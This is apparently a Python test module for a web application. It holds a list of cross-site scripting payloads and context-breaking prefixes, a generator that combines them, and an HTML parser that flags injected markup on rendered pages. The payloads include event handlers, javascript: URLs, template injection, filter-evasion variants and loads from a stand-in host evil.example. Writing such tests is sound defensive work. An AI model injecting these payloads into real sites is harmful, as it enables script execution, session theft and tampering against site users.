"""E3: scripts typed wherever something can be typed; none may run, none may even come out as markup."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Final

# What would run, if it came out as it went in. Each tells its number to a function that the browser watches.
SINKS: Final = (
    "<script>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "<svg onload=xss({n})>",
    "<svg/onload=xss({n})//",
    "<iframe srcdoc='<script>parent.xss({n})</script>'>",
    "<details open ontoggle=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})>",
    "<video><source onerror=xss({n})>",
    "<audio src onerror=xss({n})>",
    "<body onload=xss({n})>",
    "<marquee onstart=xss({n})>",
    "<object data=javascript:xss({n})>",
    "<embed src=javascript:xss({n})>",
    "<meta http-equiv=refresh content='0;url=javascript:xss({n})'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<form action=javascript:xss({n})><input autofocus onfocus=xss({n})></form>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<p style=animation-name:x onanimationstart=xss({n})>",
    "<a href=javascript:xss({n}) autofocus onfocus=xss({n})>x</a>",
    "<button popovertarget=x autofocus onfocus=xss({n})>x</button>",
    "<div hx-get=//evil.example/{n} hx-trigger=load hx-on:load=xss({n})></div>",
    "<template shadowrootmode=open><img src=x onerror=xss({n})></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    "<IMG SRC=x OnErRoR=xss({n})>",
    "<img\tsrc=x\nonerror=xss({n})>",
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "{{% debug %}}{{{{ {n} }}}}<b onmouseover=xss({n})>",
)
# What first ends whatever the text may stand in.
BREAKS: Final = (
    "", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "\" autofocus onfocus=xss({n}) x=\"",
    "</option></select>", "\"}}]", "</style>", "`;",
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """Return so many different scripts, every sink among the first of them, every way out soon after.

    What stands for the number of a script is still {n} in each.
    """
    pairs = [
        (b, s) for shift in range(len(BREAKS)) for s, b in zip(SINKS, _turned(shift), strict=False)
    ]
    return [b + s for b, s in itertools.islice(pairs, count)]


def _turned(shift: int) -> Iterator[str]:
    return itertools.islice(itertools.cycle(BREAKS), shift, None)


# -- markup that nobody of ours writes ---------------------------------------------------------------

LEADING: Final = ("href", "src", "action", "formaction", "data", "srcdoc", "hx-get", "hx-post")
NEVER: Final = frozenset(
    {"iframe", "object", "embed", "base", "marquee", "math", "audio", "video", "frame"}
)


class _Markup(HTMLParser):
    """Finds markup that came from what somebody typed: our own pages have no handlers and no bare scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        leads = [told[name].strip().lower() for name in LEADING if name in told]
        is_wrong = (
            tag in NEVER
            or any(name.startswith(("on", "hx-on")) for name in told)
            or (
                tag in ("script", "style")
                and "nonce" not in told
                and told.get("type") != "application/json"
            )
            or any(lead.startswith(("javascript:", "data:text", "//evil")) for lead in leads)
            or told.get("http-equiv", "").lower() == "refresh"
        )
        if is_wrong:
            self.wrong.append(f"<{tag} {' '.join(told)}>")


def markup_of_others(page: str) -> list[str]:
    """Return the elements of a page that nobody of ours wrote."""
    reader = _Markup()
    reader.feed(page)
    return reader.wrong
